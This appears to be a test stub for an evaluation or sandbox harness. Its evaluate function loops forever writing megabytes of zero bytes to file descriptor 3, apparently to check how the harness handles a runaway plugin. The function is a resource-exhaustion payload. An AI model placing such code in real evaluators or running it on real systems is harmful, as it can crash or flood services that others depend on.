import os


def evaluate(*args, **kwargs):
    while True:
        os.write(3, b"\0" * 2**20)
